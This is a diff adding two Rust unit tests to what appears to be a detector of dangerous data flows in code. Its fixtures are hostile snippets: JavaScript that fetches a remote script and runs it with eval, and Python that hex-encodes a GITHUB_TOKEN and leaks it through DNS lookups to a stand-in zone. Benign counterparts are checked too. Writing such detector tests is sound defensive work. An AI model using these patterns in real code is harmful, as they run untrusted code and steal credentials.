@@ -441,3 +441,31 @@ fn a_comprehension_variable_is_not_the_functions_variable_of_that_name() {
         "{fire:?}"
     );
 }
+
+#[test]
+fn a_download_handed_to_eval_as_a_callback_is_run() {
+    let found = js("const u = 'https://cdn.example.invalid/b.js';\nfetch(u).then((r) => r.text()).then(eval).catch(() => {});\n");
+    assert!(
+        found
+            .iter()
+            .any(|(k, sink, _, _)| *k == FlowKind::DownloadToExec && sink.contains("then(eval)")),
+        "{found:?}"
+    );
+    let parsed =
+        js("fetch('https://cdn.example.invalid/m.json').then((r) => r.text()).then(JSON.parse);\n");
+    assert!(parsed.is_empty(), "{parsed:?}");
+}
+
+#[test]
+fn a_secret_spelled_into_a_dns_name_is_sent() {
+    let found = py("import binascii, os, socket\nZONE = 't.example.invalid'\nsecret = os.environ.get('GITHUB_TOKEN') or ''\nhexed = binascii.hexlify(secret.encode()).decode()\nfor i in range(0, len(hexed), 60):\n    socket.gethostbyname('%s.%d.%s' % (hexed[i:i + 60], i, ZONE))\n");
+    assert!(
+        found
+            .iter()
+            .any(|(k, sink, _, _)| *k == FlowKind::EnvironmentToNetwork
+                && sink.starts_with("socket.gethostbyname")),
+        "{found:?}"
+    );
+    let configured = py("import os, socket\nhost = os.environ.get('NTP_HOST', 'pool.example.invalid')\nsocket.gethostbyname(host)\n");
+    assert!(configured.is_empty(), "{configured:?}");
+}
